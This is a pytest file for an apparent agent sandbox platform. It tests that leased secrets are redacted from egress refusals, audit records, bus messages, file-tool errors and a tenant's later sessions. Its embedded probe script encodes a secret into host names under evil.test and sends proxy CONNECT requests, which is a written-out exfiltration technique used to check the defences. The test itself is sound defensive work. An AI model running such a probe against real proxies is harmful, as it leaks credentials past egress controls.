"""A leased value spelled into a refused host name, quoted by a file tool's error, or left in
the workspace for the tenant's next session: cut everywhere it would have been recorded.

Real NATS, vault, egress and sandbox services (bubblewrap) in this process. The egress
service allows loopback for the test only, and nothing here is ever resolved: every host
the command asks for is refused before it is.
"""

from __future__ import annotations

import base64
import logging
import os
import secrets
from pathlib import Path

import msgspec
import nats.js.errors
import pytest
from nats.aio.msg import Msg

from bastion.egress.resolver import FixedResolver
from bastion.egress.service import egress_service
from bastion.egress.settings import EgressSettings
from bastion.orchestrator.service import orchestrator_service
from bastion.orchestrator.settings import OrchestratorSettings
from bastion.policy.service import policy_service
from bastion.policy.settings import PolicySettings
from bastion.proto import subjects
from bastion.proto.audit import AuditRecord
from bastion.proto.errors import ErrorReply
from bastion.proto.sandbox import (
    EditFile,
    ExecRequest,
    ExecResult,
    FileResult,
    ReadFile,
    SandboxRelease,
    SandboxReleased,
    SearchFiles,
)
from bastion.proto.toolinput import EditFileInput, ReadFileInput, SearchFilesInput
from bastion.proto.tools import ToolOutput
from bastion.sandbox.service import sandbox_service
from bastion.sandbox.settings import SandboxSettings
from bastion.shared.bus import Client, connect, request, round_trip
from bastion.shared.codec import decode
from bastion.shared.errors import RemoteError
from bastion.shared.settings import BusSettings
from bastion.vault.service import vault_service
from tests.helpers.bus import ServiceRunner
from tests.helpers.egress import guard_network
from tests.helpers.session import call, open_session
from tests.helpers.vault import add, key_file, vault_settings

NAME = "LEAK_TOKEN"
IDN = "LEAK_IDN"
SESSION = "0123456789abcdef"
LATER = "fedcba9876543210"
OWNER = 1000  # a workspace owned by an unprivileged user, as a root service requires

PROBE = r"""
import base64, os, socket
from urllib.parse import urlsplit

proxy = urlsplit(os.environ["HTTPS_PROXY"])
auth = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
value = os.environ["LEAK_TOKEN"]
raw = value.encode()


def labels(text, size):
    return ".".join(text[i : i + size] for i in range(0, len(text), size))


hosts = [
    labels(raw.hex(), 40) + ".hex.evil.test",
    labels(raw.hex().upper(), 30) + ".HEX.evil.test",
    labels(base64.b32encode(b"zz" + raw).decode().rstrip("=").lower(), 50) + ".b32.evil.test",
    labels(base64.urlsafe_b64encode(b"q" + raw).decode().rstrip("="), 20) + ".b64.evil.test",
    labels(value, 5) + ".dots.evil.test",
    "x" + value.upper() + "y.case.evil.test",
    (os.environ["LEAK_IDN"] + ".idn.evil.test").encode("idna").decode(),
]
for host in hosts:
    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as conn:
        conn.sendall(
            f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n"
            f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode()
        )
        print(conn.recv(200).split(b"\r\n")[0].decode())
"""


def _fold(text: str) -> str:
    """As a host name folds it: lower case, no dots, no line breaks."""
    return text.lower().replace(".", "").replace("\r", "").replace("\n", "")


def spellings(value: str) -> set[str]:
    """The value as a host name or a log may carry it, folded: plain, hex, base64 and
    base32 at every alignment, punycode; only the long ones (a short one could be chance)."""
    raw = value.encode()
    found = {value, raw.hex()}
    if not value.isascii():
        found.add("xn--" + value.encode("punycode").decode())
    for group, encoders in (
        (3, (base64.b64encode, base64.urlsafe_b64encode)),
        (5, (base64.b32encode,)),
    ):
        for offset in range(group):
            whole = raw[offset:][: (len(raw) - offset) // group * group]
            found.update(encode(whole).decode() for encode in encoders)
    return {_fold(form) for form in found if len(form) >= 12}


def leaked(text: str | bytes, *values: str) -> list[str]:
    """The spellings of `values` that `text` (folded) holds."""
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    folded = _fold(text)
    return [form for value in values for form in spellings(value) if form in folded]


@pytest.fixture
def value() -> str:
    return "Tok-" + secrets.token_urlsafe(24)


@pytest.fixture
def idn_value() -> str:
    return "clé-" + secrets.token_hex(8)


@pytest.fixture
def writable_workspace(tmp_path: Path) -> Path:
    """A workspace of the unprivileged owner that every user may write."""
    path = tmp_path / "workspace"
    path.mkdir()
    os.chown(path, OWNER, OWNER)
    path.chmod(0o777)  # writable by the sandbox's user whether or not it runs as the owner
    return path


def put(workspace: Path, name: str, text: str) -> None:
    path = workspace / name
    path.write_text(text)
    os.chown(path, OWNER, OWNER)


async def run(client: Client, request_: ExecRequest) -> ExecResult:
    result: ExecResult = await request(
        client, subjects.SANDBOX_EXEC, request_, ExecResult, timeout_s=60
    )
    return result


async def audit_records(client: Client) -> list[bytes]:
    """Every message of the audit stream, raw."""
    js = client.jetstream()
    info = await js.stream_info(subjects.AUDIT_STREAM)
    found = []
    for seq in range(1, info.state.last_seq + 1):
        try:
            msg = await js.get_msg(subjects.AUDIT_STREAM, seq)
        except nats.js.errors.NotFoundError:
            continue
        assert msg.data is not None
        found.append(msg.data)
    return found


async def test_a_value_spelled_into_refused_host_names_is_cut_from_every_record(
    client: Client,
    run_service: ServiceRunner,
    bus_settings: BusSettings,
    nats_url: str,
    tmp_path: Path,
    writable_workspace: Path,
    short_dir: Path,
    value: str,
    idn_value: str,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    caplog.set_level(logging.DEBUG)
    off_loopback = guard_network(monkeypatch)
    put(writable_workspace, "probe.py", PROBE)
    sock = short_dir / "egress.sock"
    egress = EgressSettings(
        nats_url=nats_url, egress_allow_ranges="127.0.0.0/8", egress_listen=f"unix:{sock}"
    )
    sandbox = SandboxSettings(
        nats_url=nats_url, state_dir=str(tmp_path / "state"), egress_socket=str(sock)
    )
    seen: list[Msg] = []

    async def record(msg: Msg) -> None:
        seen.append(msg)

    async with (
        connect(bus_settings, "recorder") as recorder,
        run_service(vault_service, vault_settings(nats_url, key_file(tmp_path / "vault"))),
        run_service(egress_service(FixedResolver({})), egress),
        run_service(sandbox_service, sandbox),
    ):
        await recorder.subscribe(">", cb=record)
        await round_trip(recorder)
        await add(client, NAME, value.encode())
        await add(client, IDN, idn_value.encode())
        result = await run(
            client,
            ExecRequest(
                session_id=SESSION, workspace=str(writable_workspace), command="python3 probe.py",
                network="declared", call_id="call-1", secrets=(NAME, IDN),
                declared_hosts=("allowed.test:443",),
            ),
        )  # fmt: skip
        kv = await client.jetstream().key_value(subjects.EGRESS_CONNECTIONS_BUCKET)
        stored = [(await kv.get(key)).value or b"" for key in await kv.keys()]
        audit = await audit_records(client)
        await recorder.flush()

    assert result.exit_status == 0, result.stderr
    assert result.stdout.splitlines() == ["HTTP/1.1 403 Forbidden"] * 7
    lines = result.connections.split("; ")
    assert len(lines) == 7 and all("refused: not a declared host" in line for line in lines)
    assert sum(f"[secret {NAME}]" in line for line in lines) == 6, result.connections
    assert f"[secret {IDN}].idn.evil.test:443" in result.connections
    assert leaked(result.connections, value, idn_value) == []
    assert leaked(result.stdout + result.stderr, value, idn_value) == []

    assert stored and all(leaked(entry, value, idn_value) == [] for entry in stored)
    refusals = [decode(data, AuditRecord) for data in audit]
    refusals = [r for r in refusals if r.action == "egress" and r.outcome == "refused"]
    assert len(refusals) == 7 and all("[secret " in r.summary for r in refusals)
    assert all(leaked(data, value, idn_value) == [] for data in audit)
    connections = [r for r in caplog.records if r.getMessage() == "egress connection"]
    assert len(connections) == 7
    for log in caplog.records:
        assert leaked(repr(log.__dict__), value, idn_value) == [], log.getMessage()
    grants = [m for m in seen if m.subject == subjects.EGRESS_GRANT]
    assert len(grants) == 1 and b"cut_salt" in grants[0].data
    for msg in seen:
        assert leaked(msg.data, value, idn_value) == [], msg.subject
    assert off_loopback == []


async def test_a_file_tools_error_quoting_the_file_has_the_value_cut(
    client: Client, run_service: ServiceRunner, nats_url: str, tmp_path: Path,
    writable_workspace: Path, value: str,
) -> None:  # fmt: skip
    writes = "printf 'line one\\napi_key = %s\\nline three\\n' \"$LEAK_TOKEN\" > config.txt"
    sandbox = SandboxSettings(nats_url=nats_url, state_dir=str(tmp_path / "state"))
    async with (
        run_service(vault_service, vault_settings(nats_url, key_file(tmp_path / "vault"))),
        run_service(sandbox_service, sandbox),
    ):
        await add(client, NAME, value.encode())
        wrote = await run(
            client,
            ExecRequest(
                session_id=SESSION, workspace=str(writable_workspace), command=writes,
                call_id="call-1", secrets=(NAME,),
            ),
        )  # fmt: skip
        assert wrote.exit_status == 0, wrote.stderr
        with pytest.raises(RemoteError) as missed:
            await request(
                client,
                subjects.SANDBOX_FILES,
                EditFile(
                    session_id=SESSION, workspace=str(writable_workspace),
                    input=EditFileInput(
                        path="config.txt", old_string="api_key = not-this-one\nline three",
                        new_string="x",
                    ),
                ),
                FileResult, timeout_s=10,
            )  # fmt: skip
    assert missed.value.code == "invalid_input"
    assert "the nearest lines of the file are" in missed.value.message
    assert f"api_key = [secret {NAME}]" in missed.value.message
    assert leaked(missed.value.message, value) == []
    assert value in (writable_workspace / "config.txt").read_text()  # the command did have it


async def test_a_value_left_in_the_workspace_is_cut_in_the_tenants_next_session(
    client: Client, run_service: ServiceRunner, nats_url: str, tmp_path: Path,
    writable_workspace: Path, value: str,
) -> None:  # fmt: skip
    state = str(tmp_path / "state")
    vault = vault_settings(nats_url, key_file(tmp_path / "vault"))
    async with run_service(vault_service, vault):
        await add(client, NAME, value.encode(), tenant="acme")
        async with run_service(
            sandbox_service, SandboxSettings(nats_url=nats_url, state_dir=state)
        ):
            wrote = await run(
                client,
                ExecRequest(
                    session_id=SESSION, workspace=str(writable_workspace), tenant="acme",
                    command='printf "token: %s\\n" "$LEAK_TOKEN" > notes.txt',
                    call_id="call-1", secrets=(NAME,),
                ),
            )  # fmt: skip
            assert wrote.exit_status == 0, wrote.stderr
            await request(
                client, subjects.SANDBOX_RELEASE, SandboxRelease(session_id=SESSION),
                SandboxReleased, timeout_s=10,
            )  # fmt: skip
        # A later session of the tenant, on a sandbox service that never leased the value.
        async with run_service(
            sandbox_service, SandboxSettings(nats_url=nats_url, state_dir=state)
        ):
            shown = await run(
                client,
                ExecRequest(
                    session_id=LATER, workspace=str(writable_workspace), tenant="acme",
                    command="cat notes.txt; base64 -w0 notes.txt; echo; od -An -tx1 notes.txt",
                ),
            )  # fmt: skip
            assert shown.exit_status == 0, shown.stderr
            assert shown.stdout.startswith(f"token: [secret {NAME}]\n"), shown.stdout
            assert leaked(shown.stdout, value) == []
            read: FileResult = await request(
                client, subjects.SANDBOX_FILES,
                ReadFile(
                    session_id=LATER, workspace=str(writable_workspace), tenant="acme",
                    input=ReadFileInput(path="notes.txt"),
                ),
                FileResult, timeout_s=10,
            )  # fmt: skip
            found: FileResult = await request(
                client, subjects.SANDBOX_FILES,
                SearchFiles(
                    session_id=LATER, workspace=str(writable_workspace), tenant="acme",
                    input=SearchFilesInput(pattern="token"),
                ),
                FileResult, timeout_s=10,
            )  # fmt: skip
        audit = [decode(data, AuditRecord) for data in await audit_records(client)]

    assert f"[secret {NAME}]" in read.text and leaked(read.text, value) == []
    assert f"[secret {NAME}]" in found.text and leaked(found.text, value) == []
    reads = [r for r in audit if r.tool == "vault.redaction" and r.tenant == "acme"]
    assert reads and all(r.outcome == "redaction" and NAME in r.summary for r in reads)
    assert all(msgspec.json.encode(r).find(value.encode()) < 0 for r in audit)


async def test_what_a_session_is_shown_journaled_and_audited_has_the_tenants_value_cut(
    client: Client,
    run_service: ServiceRunner,
    bus_settings: BusSettings,
    nats_url: str,
    tmp_path: Path,
    writable_workspace: Path,
    value: str,
) -> None:
    """Through the orchestrator: a session of the tenant that never leased the value reads
    a file a skill of the tenant left it in; the model's answers, every message on the bus
    (replies, events, journal writes) and the audit all have it cut."""
    put(writable_workspace, "notes.txt", f"first line\ntoken = {value}\nlast line\n")
    seen: list[Msg] = []

    async def record(msg: Msg) -> None:
        seen.append(msg)

    sandbox = SandboxSettings(nats_url=nats_url, state_dir=str(tmp_path / "state"))
    async with (
        connect(bus_settings, "recorder") as recorder,
        run_service(vault_service, vault_settings(nats_url, key_file(tmp_path / "vault"))),
        run_service(policy_service, PolicySettings),
        run_service(sandbox_service, sandbox),
        run_service(orchestrator_service, OrchestratorSettings(nats_url=nats_url)),
    ):
        for everything in (">", "$KV.>", "$JS.>"):  # `>` may leave `$` subjects out
            await recorder.subscribe(everything, cb=record)
        await round_trip(recorder)
        await add(client, NAME, value.encode(), tenant="acme")
        session = await open_session(
            client, workspace=str(writable_workspace), shell=True, autonomy="L5", tenant="acme"
        )
        sid = session.session_id
        answers = [
            await call(client, sid, "read_file", path="notes.txt"),
            await call(client, sid, "shell", command="cat notes.txt; base64 -w0 notes.txt"),
            await call(client, sid, "search_files", pattern="token"),
            await call(
                client, sid, "edit_file", path="notes.txt",
                old_string="token = nothing like it\nlast line", new_string="x",
            ),
        ]  # fmt: skip
        audit = await audit_records(client)
        await recorder.flush()

    *outputs, missed = answers
    assert all(isinstance(answer, ToolOutput) for answer in outputs), outputs
    for answer in outputs:
        assert isinstance(answer, ToolOutput) and f"[secret {NAME}]" in answer.text
    assert isinstance(missed, ErrorReply) and f"token = [secret {NAME}]" in missed.message
    shown = [a.text for a in outputs if isinstance(a, ToolOutput)] + [missed.message]
    assert all(leaked(text, value) == [] for text in shown)
    assert audit and all(leaked(data, value) == [] for data in audit)
    assert any(m.subject.startswith(subjects.EVENTS_ALL[:-1]) for m in seen)
    assert any(m.subject.startswith(f"$KV.{subjects.JOURNAL_BUCKET}.") for m in seen)
    for msg in seen:  # every request, reply, event, journal write and audit record
        assert leaked(msg.data, value) == [], msg.subject


async def test_a_replaced_value_stays_cut_and_so_does_a_known_one_while_the_vault_is_away(
    client: Client, run_service: ServiceRunner, nats_url: str, tmp_path: Path,
    writable_workspace: Path, value: str,
) -> None:  # fmt: skip
    """The sandbox process keeps what it leased for the tenant: a value the operator has
    replaced since (the vault no longer holds it) is still cut from the tenant's later
    sessions, and so is what it knows while the vault does not answer. The vault is asked
    on every call here, so neither is the vault's answer from before."""
    vault = vault_settings(nats_url, key_file(tmp_path / "vault"))
    sandbox = SandboxSettings(
        nats_url=nats_url, state_dir=str(tmp_path / "state"), redaction_refresh_s=0
    )
    cat = "cat old.txt"
    async with run_service(sandbox_service, sandbox):
        async with run_service(vault_service, vault):
            await add(client, NAME, value.encode(), tenant="acme")
            wrote = await run(
                client,
                ExecRequest(
                    session_id=SESSION, workspace=str(writable_workspace), tenant="acme",
                    command='printf "%s\\n" "$LEAK_TOKEN" > old.txt', call_id="c1",
                    secrets=(NAME,),
                ),
            )  # fmt: skip
            assert wrote.exit_status == 0, wrote.stderr
            await add(client, NAME, b"the-replacing-value-0042", tenant="acme")
            replaced = await run(
                client,
                ExecRequest(
                    session_id=LATER, workspace=str(writable_workspace), tenant="acme", command=cat
                ),
            )
        away = await run(
            client,
            ExecRequest(
                session_id=LATER, workspace=str(writable_workspace), tenant="acme", command=cat
            ),
        )
    assert replaced.stdout == f"[secret {NAME}]\n"
    assert away.stdout == f"[secret {NAME}]\n"
